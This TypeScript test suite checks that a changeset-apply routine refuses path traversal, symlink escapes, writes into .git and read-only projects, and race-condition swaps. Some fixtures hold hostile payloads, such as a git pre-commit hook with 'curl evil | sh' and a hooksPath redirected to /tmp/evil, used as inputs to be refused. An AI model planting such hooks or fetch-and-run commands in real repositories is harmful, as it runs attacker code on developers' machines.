import {
  lstat,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  readlink,
  realpath,
  rename,
  rm,
  symlink,
  writeFile,
  chmod,
} from 'node:fs/promises';
import { existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

import type { Changeset, ChangesetProject, FileChange } from '../../domain/changeset';
import { sha256 } from '../../lib/sha256';
import type { ApplyFileSystem } from '../../sandbox/apply';
import { ChangesetRefusedError, NODE_FS, applyChangeset, validateChangeset } from '../../sandbox/apply';

const PROJECT = 'local/demo';
const AT = '2030-01-02T03:04:05.000Z';
/** Apply's temp files (`.ca-<24 hex>.tmp`), and any other `.tmp` a writer could leave. */
const TEMP_FILE = /\.tmp$/;

/** A temp area holding the project root and a sibling directory Apply must never touch. */
let area: string;
let root: string;
let outside: string;

beforeEach(async () => {
  area = await realpath(await mkdtemp(path.join(os.tmpdir(), 'apply-test-')));
  root = path.join(area, 'project');
  outside = path.join(area, 'outside');
  await mkdir(root);
  await mkdir(outside);
  await writeFile(path.join(outside, 'secret.txt'), 'outside bytes\n');
});

afterEach(async () => {
  await rm(area, { recursive: true, force: true });
});

type Entry = { type: 'dir' } | { type: 'file'; sha: string; mode: number } | { type: 'link'; target: string };

/** Every directory, file (hash and mode) and link (target) under `dir`, by path relative to it. */
async function snapshot(dir: string): Promise<Record<string, Entry>> {
  const entries: Record<string, Entry> = {};
  const walk = async (relative: string): Promise<void> => {
    for (const name of (await readdir(path.join(dir, relative))).sort()) {
      const child = relative === '' ? name : `${relative}/${name}`;
      const absolute = path.join(dir, child);
      const stats = await lstat(absolute);
      if (stats.isSymbolicLink()) entries[child] = { type: 'link', target: await readlink(absolute) };
      else if (stats.isDirectory()) {
        entries[child] = { type: 'dir' };
        await walk(child);
      } else
        entries[child] = { type: 'file', sha: sha256(await readFile(absolute)), mode: stats.mode & 0o7777 };
    }
  };
  await walk('');
  return entries;
}

function tempFilesIn(tree: Record<string, Entry>): string[] {
  return Object.keys(tree).filter((name) => TEMP_FILE.test(name));
}

async function put(relative: string, content: string, mode = 0o644): Promise<void> {
  const file = path.join(root, relative);
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, content);
  await chmod(file, mode);
}

async function current(relative: string): Promise<Buffer> {
  return readFile(path.join(root, relative));
}

const bytes = (text: string): Buffer => Buffer.from(text, 'utf8');

function change(fields: Partial<FileChange> & Pick<FileChange, 'operation' | 'path'>): FileChange {
  return {
    project: PROJECT,
    fromPath: null,
    beforeHash: null,
    afterHash: null,
    beforeContent: null,
    afterContent: null,
    ...fields,
  };
}

function create(relative: string, content: string): FileChange {
  return change({
    operation: 'CREATE',
    path: relative,
    afterHash: sha256(content),
    afterContent: bytes(content),
  });
}

async function modify(relative: string, content: string): Promise<FileChange> {
  const before = await current(relative);
  return change({
    operation: 'MODIFY',
    path: relative,
    beforeHash: sha256(before),
    beforeContent: before,
    afterHash: sha256(content),
    afterContent: bytes(content),
  });
}

async function remove(relative: string): Promise<FileChange> {
  const before = await current(relative);
  return change({ operation: 'DELETE', path: relative, beforeHash: sha256(before), beforeContent: before });
}

async function move(from: string, to: string): Promise<FileChange> {
  const hash = sha256(await current(from));
  return change({ operation: 'MOVE', path: to, fromPath: from, beforeHash: hash, afterHash: hash });
}

function project(fields: Partial<ChangesetProject> = {}): ChangesetProject {
  return {
    projectName: PROJECT,
    alias: null,
    root,
    readOnly: false,
    sandbox: path.join(area, 'sandbox'),
    ...fields,
  };
}

function changeset(changes: FileChange[], projects: ChangesetProject[] = [project()]): Changeset {
  return { changesetId: 'cs-1', planId: 'plan-1', attempt: 1, projects, changes, createdAt: AT };
}

/**
 * Applies a changeset that must be refused, and proves the refusal wrote nothing anywhere in the area: not in the
 * project, not outside it, no directories and no temp files. Returns the problems.
 */
async function expectRefused(cs: Changeset): Promise<string[]> {
  const before = await snapshot(area);
  const validated = await validateChangeset(cs);
  expect(validated.length).toBeGreaterThan(0);

  const error: unknown = await applyChangeset(cs, { at: AT }).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ChangesetRefusedError);
  const refused = error as ChangesetRefusedError;
  expect(refused.problems).toEqual(validated);

  const after = await snapshot(area);
  expect(after).toEqual(before);
  expect(tempFilesIn(after)).toEqual([]);
  return refused.problems;
}

describe('sha256', () => {
  it('is the lowercase hex digest of bytes, and of a string as UTF-8', () => {
    const abc = 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad';
    expect(sha256('abc')).toBe(abc);
    expect(sha256(new Uint8Array([0x61, 0x62, 0x63]))).toBe(abc);
    expect(sha256('é')).toBe(sha256(Buffer.from([0xc3, 0xa9])));
  });
});

describe('ChangesetRefusedError', () => {
  it('lists the first problems and counts the rest', () => {
    const problems = ['p1', 'p2', 'p3', 'p4', 'p5', 'p6', 'p7'];
    const error = new ChangesetRefusedError(problems, 'cs-9');
    expect(error).toBeInstanceOf(Error);
    expect(error.name).toBe('ChangesetRefusedError');
    expect(error.problems).toEqual(problems);
    expect(error.message).toContain('changeset cs-9');
    expect(error.message).toContain('7 problems');
    expect(error.message).toContain('- p5');
    expect(error.message).not.toContain('- p6');
    expect(error.message).toContain('and 2 more');
  });
});

describe('applyChangeset: refusals write nothing', () => {
  it('refuses an absolute path', async () => {
    const problems = await expectRefused(changeset([create(path.join(outside, 'evil.txt'), 'evil\n')]));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^local\/demo: CREATE ".*evil\.txt": .*is absolute/);
  });

  it('refuses a ".." component', async () => {
    const problems = await expectRefused(changeset([create('../outside/evil.txt', 'evil\n')]));
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: CREATE "\.\.\/outside\/evil\.txt": .*"\.\." component/),
    ]);
  });

  it('refuses a directory replaced by a symlink to outside the root after the changeset was computed', async () => {
    await put('sub/a.txt', 'same bytes\n');
    const cs = changeset([await modify('sub/a.txt', 'changed\n'), create('sub/new.txt', 'new\n')]);
    expect(await validateChangeset(cs)).toEqual([]);

    // The outside copy has the very bytes the changeset expects: only the symlink check can catch this.
    await writeFile(path.join(outside, 'a.txt'), 'same bytes\n');
    await rm(path.join(root, 'sub'), { recursive: true });
    await symlink(outside, path.join(root, 'sub'));

    const problems = await expectRefused(cs);
    expect(problems).toHaveLength(2);
    for (const problem of problems)
      expect(problem).toMatch(/"sub" is a symbolic link that resolves outside the project root/);
  });

  it.each([
    ['outside the root', (): string => path.join(outside, 'secret.txt')],
    ['inside the root', (): string => path.join(root, 'real.txt')],
  ])('refuses a final component that is a symlink (%s)', async (_where, target) => {
    await put('real.txt', 'outside bytes\n');
    await symlink(target(), path.join(root, 'link.txt'));
    const cs = changeset([await modify('link.txt', 'written through the link\n')]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: MODIFY "link\.txt": "link\.txt" is a symbolic link/),
    ]);
  });

  it('refuses a change to a read-only project link', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await modify('a.txt', 'new\n')], [project({ readOnly: true, sandbox: null })]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: MODIFY "a\.txt": targets read-only project link/),
    ]);
  });

  it('refuses a MODIFY whose file changed since Execute', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await modify('a.txt', 'new\n')]);
    await writeFile(path.join(root, 'a.txt'), 'edited by the user\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(
        /^local\/demo: MODIFY "a\.txt": "a\.txt" changed since Execute .*re-run Execute$/,
      ),
    ]);
  });

  it('refuses a CREATE whose target now exists', async () => {
    const cs = changeset([create('dir/new.txt', 'planned\n')]);
    await put('dir/new.txt', 'someone else was first\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: CREATE "dir\/new\.txt": .*already exists/),
    ]);
  });

  it('refuses a DELETE whose file changed since Execute', async () => {
    await put('gone.txt', 'old\n');
    const cs = changeset([await remove('gone.txt')]);
    await writeFile(path.join(root, 'gone.txt'), 'edited by the user\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: DELETE "gone\.txt": "gone\.txt" changed since Execute/),
    ]);
  });

  it('refuses a MOVE whose source changed since Execute', async () => {
    await put('from.txt', 'old\n');
    const cs = changeset([await move('from.txt', 'to/to.txt')]);
    await writeFile(path.join(root, 'from.txt'), 'edited by the user\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(
        /^local\/demo: MOVE "from\.txt" -> "to\/to\.txt": the source "from\.txt" changed since Execute/,
      ),
    ]);
  });

  it('validates the whole changeset before the first write: only the last change is bad', async () => {
    await put('b.txt', 'b\n');
    await put('c.txt', 'c\n');
    await put('zz.txt', 'zz\n');
    const cs = changeset([
      create('a/new/dir/file.txt', 'new\n'),
      await modify('b.txt', 'b2\n'),
      await remove('c.txt'),
      await modify('zz.txt', 'zz2\n'),
    ]);
    await writeFile(path.join(root, 'zz.txt'), 'edited by the user\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([expect.stringMatching(/^local\/demo: MODIFY "zz\.txt": /)]);
  });

  it('refuses two changes to the same target', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await modify('a.txt', 'new\n'), await remove('a.txt')]);
    const problems = await expectRefused(cs);
    expect(problems).toContainEqual(expect.stringMatching(/"a\.txt".*touches the same file as .*"a\.txt"/));
    expect(problems).toHaveLength(1);
  });

  it("refuses a change to a MOVE's source", async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await move('a.txt', 'b.txt'), await modify('a.txt', 'new\n')]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(
        /^local\/demo: (MODIFY "a\.txt"|MOVE "a\.txt" -> "b\.txt"): touches the same file as/,
      ),
    ]);
  });

  it('refuses a change to a project the changeset does not list', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([{ ...(await modify('a.txt', 'new\n')), project: 'local/other' }]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/other: MODIFY "a\.txt": .*not part of the changeset/),
    ]);
  });

  it('refuses a project root that no longer exists', async () => {
    const cs = changeset([create('a.txt', 'new\n')], [project({ root: path.join(area, 'missing') })]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: CREATE "a\.txt": the project root .* does not exist/),
    ]);
  });

  it('refuses content that does not match its hash (corrupt changeset)', async () => {
    const cs = changeset([{ ...create('a.txt', 'new\n'), afterContent: bytes('tampered\n') }]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([expect.stringMatching(/^local\/demo: CREATE "a\.txt": .*corrupt changeset/)]);
  });
});

describe('applyChangeset: overlapping project roots', () => {
  const DOCS = 'local/docs';
  let docs: string;

  beforeEach(() => {
    docs = path.join(root, 'docs');
  });

  /** The writable project and a read-only link whose root is given (by default `docs` inside the project). */
  function withReadOnly(changes: FileChange[], readOnlyRoot: string = docs): Changeset {
    return changeset(changes, [
      project(),
      project({ projectName: DOCS, root: readOnlyRoot, readOnly: true, sandbox: null }),
    ]);
  }

  const intrusion = (operation: string, relative: string): RegExp =>
    new RegExp(
      `^local/demo: ${operation} .*: "${relative}" of project "local/demo" lies inside read-only project ` +
        `link "local/docs" \\(the project roots overlap\\); Apply never writes to it$`,
    );

  it('refuses a change whose path leads into a read-only project nested in the writable one', async () => {
    await put('docs/readme.md', 'read-only docs\n');
    const cs = withReadOnly([
      await modify('docs/readme.md', 'overwritten\n'),
      create('docs/new/page.md', 'planted\n'),
    ]);
    const problems = await expectRefused(cs);
    expect(problems).toHaveLength(2);
    expect(problems).toContainEqual(expect.stringMatching(intrusion('MODIFY', 'docs/readme\\.md')));
    expect(problems).toContainEqual(expect.stringMatching(intrusion('CREATE', 'docs/new/page\\.md')));
  });

  it('refuses a MOVE out of a read-only project (its source is removed) and one into it', async () => {
    await put('docs/readme.md', 'read-only docs\n');
    await put('notes.md', 'notes\n');
    const cs = withReadOnly([
      await move('docs/readme.md', 'readme.md'),
      await move('notes.md', 'docs/notes.md'),
    ]);
    const problems = await expectRefused(cs);
    expect(problems).toHaveLength(2);
    expect(problems).toContainEqual(
      expect.stringMatching(intrusion('MOVE "docs/readme\\.md"', 'docs/readme\\.md')),
    );
    expect(problems).toContainEqual(expect.stringMatching(intrusion('MOVE "notes\\.md"', 'docs/notes\\.md')));
  });

  it('refuses a write that reaches the read-only project through a directory link inside the root', async () => {
    await put('docs/readme.md', 'read-only docs\n');
    await symlink(docs, path.join(root, 'alias'));
    const cs = withReadOnly([await modify('alias/readme.md', 'overwritten\n')]);
    const problems = await expectRefused(cs);
    // Refused as a link before the read-only roots are even compared: Apply follows no link at all.
    expect(problems).toEqual([
      expect.stringMatching(
        /^local\/demo: MODIFY "alias\/readme\.md": "alias" is a symbolic link; Apply does not follow it$/,
      ),
    ]);
  });

  it.each<[string, () => string]>([
    ['is the writable root itself', () => root],
    ['contains the writable root', () => area],
    ['is reached through a link', () => path.join(area, 'docs-link')],
  ])('refuses every write when the read-only root %s', async (_how, readOnlyRoot) => {
    await symlink(root, path.join(area, 'docs-link'));
    await put('a.txt', 'old\n');
    const cs = withReadOnly([await modify('a.txt', 'new\n'), create('b/c.txt', 'new\n')], readOnlyRoot());
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(intrusion('MODIFY', 'a\\.txt')),
      expect.stringMatching(intrusion('CREATE', 'b/c\\.txt')),
    ]);
  });

  it('refuses a write where a read-only root that does not exist yet would be', async () => {
    const cs = withReadOnly([create('docs/readme.md', 'planted\n')]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([expect.stringMatching(intrusion('CREATE', 'docs/readme\\.md'))]);
  });

  it('still writes beside a nested read-only project', async () => {
    await put('docs/readme.md', 'read-only docs\n');
    const docsBefore = await snapshot(docs);
    const cs = withReadOnly([create('docs2/readme.md', 'beside\n'), create('README.md', 'top\n')]);
    expect(await validateChangeset(cs)).toEqual([]);

    const result = await applyChangeset(cs, { at: AT });

    expect(result.created).toBe(2);
    expect((await current('docs2/readme.md')).toString()).toBe('beside\n');
    expect(await snapshot(docs)).toEqual(docsBefore);
  });
});

describe('applyChangeset: success', () => {
  /** One change of each kind, with the expected tree after Apply. */
  async function scenario(): Promise<{ cs: Changeset; expected: Record<string, unknown> }> {
    await put('keep.txt', 'keep\n');
    await put('run.sh', '#!/bin/sh\necho old\n', 0o755);
    await put('del/gone.txt', 'gone\n');
    await put('old/name.txt', 'moving\n', 0o600);
    const cs = changeset([
      create('new/deep/file.txt', 'created\n'),
      await modify('run.sh', '#!/bin/sh\necho new\n'),
      await remove('del/gone.txt'),
      await move('old/name.txt', 'renamed/here/name.txt'),
    ]);
    const expected = {
      'keep.txt': { type: 'file', sha: sha256('keep\n'), mode: 0o644 },
      'run.sh': { type: 'file', sha: sha256('#!/bin/sh\necho new\n'), mode: 0o755 },
      del: { type: 'dir' },
      old: { type: 'dir' },
      new: { type: 'dir' },
      'new/deep': { type: 'dir' },
      'new/deep/file.txt': { type: 'file', sha: sha256('created\n'), mode: expect.any(Number) },
      renamed: { type: 'dir' },
      'renamed/here': { type: 'dir' },
      'renamed/here/name.txt': { type: 'file', sha: sha256('moving\n'), mode: 0o600 },
    };
    return { cs, expected };
  }

  const counts = { changesetId: 'cs-1', created: 1, modified: 1, deleted: 1, moved: 1, appliedAt: AT };

  it('applies CREATE in a new nested dir, MODIFY keeping the mode, DELETE and MOVE', async () => {
    const { cs, expected } = await scenario();
    const outsideBefore = await snapshot(outside);
    expect(await validateChangeset(cs)).toEqual([]);

    const result = await applyChangeset(cs, { at: AT });

    expect(result).toEqual({ ...counts, alreadyApplied: 0 });
    const tree = await snapshot(root);
    expect(tree).toEqual(expected);
    expect(tempFilesIn(tree)).toEqual([]);
    expect(await snapshot(outside)).toEqual(outsideBefore);
  });

  it('applies the same changeset a second time as a no-op', async () => {
    const { cs, expected } = await scenario();
    await applyChangeset(cs, { at: AT });
    const first = await snapshot(area);

    expect(await validateChangeset(cs)).toEqual([]);
    const again = await applyChangeset(cs, { at: AT });

    expect(again).toEqual({ ...counts, alreadyApplied: 4 });
    expect(await snapshot(area)).toEqual(first);
    expect(await snapshot(root)).toEqual(expected);
  });

  it.each<[string, () => Promise<void>]>([
    ['the MODIFY', () => writeFile(path.join(root, 'run.sh'), '#!/bin/sh\necho old\n')],
    ['the CREATE', () => rm(path.join(root, 'new/deep/file.txt'))],
    ['the MOVE', () => rename(path.join(root, 'renamed/here/name.txt'), path.join(root, 'old/name.txt'))],
    ['the DELETE', () => writeFile(path.join(root, 'del/gone.txt'), 'gone\n')],
  ])('completes a half-applied changeset (%s reverted)', async (_which, revert) => {
    const { cs, expected } = await scenario();
    await applyChangeset(cs, { at: AT });
    const applied = await snapshot(root);
    await revert();
    expect(await snapshot(root)).not.toEqual(applied);

    const result = await applyChangeset(cs, { at: AT });

    expect(result).toEqual({ ...counts, alreadyApplied: 3 });
    const tree = await snapshot(root);
    expect(tree).toEqual(applied);
    expect(tree).toEqual(expected);
    expect(tempFilesIn(tree)).toEqual([]);
  });

  it('applies an empty changeset', async () => {
    const before = await snapshot(area);
    const result = await applyChangeset(changeset([]), { at: AT });
    expect(result).toEqual({
      changesetId: 'cs-1',
      created: 0,
      modified: 0,
      deleted: 0,
      moved: 0,
      alreadyApplied: 0,
      appliedAt: AT,
    });
    expect(await snapshot(area)).toEqual(before);
  });
});

/** One hash of a whole tree (every path, type, content hash, mode and link target): equal means nothing changed. */
async function treeHash(dir: string): Promise<string> {
  return sha256(JSON.stringify(await snapshot(dir)));
}

/** A project that is a git checkout: its `.git` holds config and a hooks directory, as a real one does. */
async function withGitDirectory(): Promise<void> {
  await put('.git/config', '[core]\n\tbare = false\n');
  await put('.git/HEAD', 'ref: refs/heads/main\n');
  await put('.git/hooks/pre-commit.sample', '#!/bin/sh\n', 0o755);
  await put('src/a.ts', 'export const a = 1;\n');
}

/** What Apply throws (or undefined when it succeeds). */
async function applyError(cs: Changeset, fs?: ApplyFileSystem): Promise<unknown> {
  return applyChangeset(cs, { at: AT, ...(fs === undefined ? {} : { fs }) }).then(
    () => undefined,
    (e: unknown) => e,
  );
}

const errno = (code: string): NodeJS.ErrnoException =>
  Object.assign(new Error(`${code}: injected by the test`), { code });

/** A CJK name of `chars` characters, 3 bytes each in UTF-8. */
const cjk = (chars: number): string => '漢'.repeat(chars);

describe('applyChangeset: git metadata and links inside the project', () => {
  beforeEach(withGitDirectory);

  it.each([
    ['CREATE ".GIT/config"', (): FileChange => create('.GIT/config', '[core]\n\thooksPath = /tmp/evil\n')],
    ['CREATE ".git./hooks/x"', (): FileChange => create('.git./hooks/x', '#!/bin/sh\nevil\n')],
    ['CREATE "git~1/config"', (): FileChange => create('git~1/config', '[core]\n')],
    ['CREATE ".Git /HEAD"', (): FileChange => create('.Git /HEAD', 'ref: refs/heads/evil\n')],
    ['CREATE "src/.git/config"', (): FileChange => create('src/.git/config', '[core]\n')],
  ])('refuses %s, a name for .git, at validation', async (_what, make) => {
    const before = await treeHash(root);
    const problems = await expectRefused(changeset([make()]));
    expect(problems).toEqual([
      expect.stringMatching(/that names git's directory "\.git"; changes never touch it$/),
    ]);
    expect(await treeHash(root)).toBe(before);
  });

  it('refuses a MODIFY of .git/HEAD and a MOVE of .git/config, whatever else the changeset holds', async () => {
    const before = await treeHash(root);
    const config = await current('.git/config');
    const cs = changeset([
      create('ok.txt', 'fine\n'),
      change({
        operation: 'MOVE',
        path: 'config.bak',
        fromPath: '.git/config',
        beforeHash: sha256(config),
        afterHash: sha256(config),
      }),
      await modify('.git/HEAD', 'ref: refs/heads/evil\n'),
    ]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: MODIFY "\.git\/HEAD": .*names git's directory/),
      expect.stringMatching(
        /^local\/demo: MOVE "\.git\/config" -> "config\.bak": source: .*names git's directory/,
      ),
    ]);
    expect(await treeHash(root)).toBe(before);
  });

  it('refuses CREATE hooks/pre-commit when hooks is a link to .git/hooks (a link staying inside the project)', async () => {
    await symlink('.git/hooks', path.join(root, 'hooks'));
    const before = await treeHash(root);
    const problems = await expectRefused(
      changeset([create('hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n')]),
    );
    expect(problems).toEqual([
      'local/demo: CREATE "hooks/pre-commit": "hooks" is a symbolic link; Apply does not follow it',
    ]);
    expect(await treeHash(root)).toBe(before);
    expect(await lstat(path.join(root, '.git/hooks/pre-commit')).catch(() => null)).toBeNull();
  });

  it('refuses MODIFY docs/a.ts when docs is a link to src (it used to be written through)', async () => {
    await symlink('src', path.join(root, 'docs'));
    const before = await treeHash(root);
    const problems = await expectRefused(changeset([await modify('docs/a.ts', 'export const a = 2;\n')]));
    expect(problems).toEqual([
      'local/demo: MODIFY "docs/a.ts": "docs" is a symbolic link; Apply does not follow it',
    ]);
    expect(await treeHash(root)).toBe(before);
  });

  it('refuses a link deeper on the way, and a MOVE whose source lies behind one', async () => {
    await mkdir(path.join(root, 'pkg'));
    await symlink('../src', path.join(root, 'pkg', 'lib'));
    const before = await treeHash(root);
    const problems = await expectRefused(
      changeset([create('pkg/lib/b.ts', 'b\n'), await move('pkg/lib/a.ts', 'moved.ts')]),
    );
    expect(problems).toHaveLength(2);
    for (const problem of problems)
      expect(problem).toMatch(/"pkg\/lib" is a symbolic link; Apply does not follow it$/);
    expect(await treeHash(root)).toBe(before);
  });

  it('refuses a name reserved for its own temp files (a retried Apply would remove it)', async () => {
    const problems = await expectRefused(changeset([create('src/.ca-0123456789abcdef01234567.tmp', 'x\n')]));
    expect(problems).toEqual([expect.stringMatching(/named like one of Apply's temp files/)]);
  });
});

describe('applyChangeset: all or nothing', () => {
  it('writes a 243-byte CJK name as the second of three CREATEs (temp names do not grow with the name)', async () => {
    const long = `${cjk(81)}`;
    expect(Buffer.byteLength(long)).toBe(243);
    const cs = changeset([create('a.txt', 'a\n'), create(`dir/${long}`, 'long\n'), create('z.txt', 'z\n')]);

    const result = await applyChangeset(cs, { at: AT });

    expect(result.created).toBe(3);
    expect((await current(`dir/${long}`)).toString()).toBe('long\n');
    expect((await current('z.txt')).toString()).toBe('z\n');
    expect(tempFilesIn(await snapshot(root))).toEqual([]);
  });

  it('refuses a name too long for the filesystem in a new directory, found only in stage 1, writing nothing', async () => {
    await put('keep.txt', 'keep\n');
    const tooLong = cjk(86);
    expect(Buffer.byteLength(tooLong)).toBe(258);
    const cs = changeset([
      create('a.txt', 'a\n'),
      create(`b/${cjk(81)}`, 'fits\n'),
      await modify('keep.txt', 'kept?\n'),
      create(`new/deeper/${tooLong}`, 'too long\n'),
    ]);
    // Validation cannot see it: the directory does not exist yet, so there is no name to look up.
    expect(await validateChangeset(cs)).toEqual([]);
    const before = await treeHash(area);

    const error = await applyError(cs);

    expect(error).toBeInstanceOf(ChangesetRefusedError);
    expect((error as ChangesetRefusedError).problems).toEqual([
      expect.stringMatching(
        /^local\/demo: CREATE "new\/deeper\/漢+": a name in .* is too long for this filesystem/,
      ),
    ]);
    expect(await treeHash(area)).toBe(before);
    expect(tempFilesIn(await snapshot(area))).toEqual([]);
  });

  it('removes every temp file and directory when a write fails in stage 1 (a full disk)', async () => {
    await put('keep.txt', 'keep\n');
    await put('gone.txt', 'gone\n');
    const cs = changeset([
      create('a/b/new.txt', 'new\n'),
      await remove('gone.txt'),
      await modify('keep.txt', 'kept?\n'),
      create('z/new.txt', 'never\n'),
    ]);
    const before = await treeHash(area);
    let opened = 0;
    const fullDisk: ApplyFileSystem = {
      ...NODE_FS,
      open: async (file, flags, mode) => {
        const handle = await NODE_FS.open(file, flags, mode);
        if (++opened < 3) return handle;
        // The temp file exists, as on a real full disk: the write fails, not the open.
        return {
          writeFile: () => Promise.reject(errno('ENOSPC')),
          chmod: (m) => handle.chmod(m),
          sync: () => handle.sync(),
          close: () => handle.close(),
        };
      },
    };

    const error = await applyError(cs, fullDisk);

    expect(error).toBeInstanceOf(Error);
    expect(error).not.toBeInstanceOf(ChangesetRefusedError);
    expect((error as Error).message).toMatch(
      /^Apply wrote nothing of changeset cs-1 \(every temp file and directory it made is removed\): local\/demo: MODIFY "keep\.txt": ENOSPC/,
    );
    expect(opened).toBe(3);
    expect(await treeHash(area)).toBe(before);
    expect(tempFilesIn(await snapshot(area))).toEqual([]);
  });

  it('refuses, writing nothing, when a file is rewritten with the same bytes between the two stages', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await modify('a.txt', 'new\n'), create('b.txt', 'b\n')]);
    let opened = 0;
    const editor: ApplyFileSystem = {
      ...NODE_FS,
      open: async (file, flags, mode) => {
        const handle = await NODE_FS.open(file, flags, mode);
        if (++opened === 2) await writeFile(path.join(root, 'a.txt'), 'old\n');
        return handle;
      },
    };
    const before = await treeHash(area);

    const error = await applyError(cs, editor);

    expect(error).toBeInstanceOf(ChangesetRefusedError);
    expect((error as ChangesetRefusedError).problems).toEqual([
      'local/demo: MODIFY "a.txt": "a.txt" changed while Apply ran; re-run Execute',
    ]);
    // The user's rewrite left the same bytes and mode, so the tree is as it was: Apply itself wrote nothing.
    expect(await treeHash(area)).toBe(before);
  });

  describe('a directory swapped for a link to .git/hooks while Apply runs', () => {
    beforeEach(async () => {
      await withGitDirectory();
      await put('hooks/README.md', 'our hooks\n');
    });

    /** Moves the project's real `hooks` away and plants `hooks -> .git/hooks` in its place. */
    async function swap(): Promise<void> {
      await rename(path.join(root, 'hooks'), path.join(root, 'hooks-moved'));
      await symlink('.git/hooks', path.join(root, 'hooks'));
    }

    it('between the stages: refused before the first write, its temp file removed from where the directory went', async () => {
      const gitBefore = await treeHash(path.join(root, '.git'));
      const cs = changeset([create('hooks/pre-commit', '#!/bin/sh\nevil\n'), create('z.txt', 'z\n')]);
      let opened = 0;
      const attacker: ApplyFileSystem = {
        ...NODE_FS,
        open: async (file, flags, mode) => {
          const handle = await NODE_FS.open(file, flags, mode);
          if (++opened === 2) await swap();
          return handle;
        },
      };

      const error = await applyError(cs, attacker);

      expect(error).toBeInstanceOf(ChangesetRefusedError);
      expect((error as ChangesetRefusedError).problems).toEqual([
        expect.stringMatching(
          /^local\/demo: CREATE "hooks\/pre-commit": the directory ".*\/hooks" changed while it was in use .*; Apply does not follow a link or a moved directory$/,
        ),
      ]);
      expect(await treeHash(path.join(root, '.git'))).toBe(gitBefore);
      const tree = await snapshot(root);
      expect(tempFilesIn(tree)).toEqual([]);
      expect(Object.keys(tree).filter((name) => name.startsWith('hooks-moved/'))).toEqual([
        'hooks-moved/README.md',
      ]);
      expect(tree['z.txt']).toBeUndefined();
    });

    (existsSync('/proc/self/fd') ? it : it.skip)(
      'right before the rename (after every check): the file still lands in the directory Apply checked',
      async () => {
        const gitBefore = await treeHash(path.join(root, '.git'));
        const cs = changeset([create('hooks/pre-commit', '#!/bin/sh\nfine\n')]);
        const attacker: ApplyFileSystem = {
          ...NODE_FS,
          rename: async (from, to) => {
            await swap();
            await NODE_FS.rename(from, to);
          },
        };

        await applyChangeset(cs, { at: AT, fs: attacker });

        // The rename went through the descriptor of the directory Apply had checked, not through the new link.
        expect(await treeHash(path.join(root, '.git'))).toBe(gitBefore);
        expect((await current('hooks-moved/pre-commit')).toString()).toBe('#!/bin/sh\nfine\n');
        expect(tempFilesIn(await snapshot(root))).toEqual([]);
      },
    );
  });
});

describe('applyChangeset: a crash between the two stages', () => {
  it('leaves only temp files, and a retried Apply removes them and finishes', async () => {
    await put('keep.txt', 'keep\n');
    await put('run.sh', '#!/bin/sh\necho old\n', 0o755);
    await put('del/gone.txt', 'gone\n');
    await put('old/name.txt', 'moving\n', 0o600);
    const cs = changeset([
      create('new/deep/file.txt', 'created\n'),
      await modify('run.sh', '#!/bin/sh\necho new\n'),
      await remove('del/gone.txt'),
      await move('old/name.txt', 'renamed/here/name.txt'),
    ]);
    const before = await snapshot(root);

    // The first write of stage 2 (a rename or unlink of a project file) never returns, as if the worker died
    // there; the test lets it fail later.
    let crashed!: () => void;
    const reachedStage2 = new Promise<void>((resolve) => {
      crashed = resolve;
    });
    let wakeUp!: (error: Error) => void;
    const hang = (): Promise<void> => {
      crashed();
      return new Promise<void>((_resolve, reject) => {
        wakeUp = reject;
      });
    };
    const isTemp = (file: string): boolean => /\.ca-[0-9a-f]{24}\.tmp$/.test(file);
    const dying: ApplyFileSystem = {
      ...NODE_FS,
      rename: (from, to) => (isTemp(to) ? NODE_FS.rename(from, to) : hang()),
      unlink: (file) => (isTemp(file) ? NODE_FS.unlink(file) : hang()),
    };
    const zombie = applyChangeset(cs, { at: AT, fs: dying }).then(
      () => undefined,
      (e: unknown) => e,
    );
    await reachedStage2;

    const crashedTree = await snapshot(root);
    // Every original file is as it was; stage 1 left one temp file per change and the new directories.
    for (const [name, entry] of Object.entries(before)) expect(crashedTree[name]).toEqual(entry);
    expect(tempFilesIn(crashedTree)).toHaveLength(4);

    const result = await applyChangeset(cs, { at: AT });

    expect(result).toEqual({
      changesetId: 'cs-1',
      created: 1,
      modified: 1,
      deleted: 1,
      moved: 1,
      alreadyApplied: 0,
      appliedAt: AT,
    });
    const tree = await snapshot(root);
    expect(tempFilesIn(tree)).toEqual([]);
    expect(tree['new/deep/file.txt']).toEqual({
      type: 'file',
      sha: sha256('created\n'),
      mode: expect.any(Number),
    });
    expect(tree['run.sh']).toEqual({ type: 'file', sha: sha256('#!/bin/sh\necho new\n'), mode: 0o755 });
    expect(tree['del/gone.txt']).toBeUndefined();
    expect(tree['old/name.txt']).toBeUndefined();
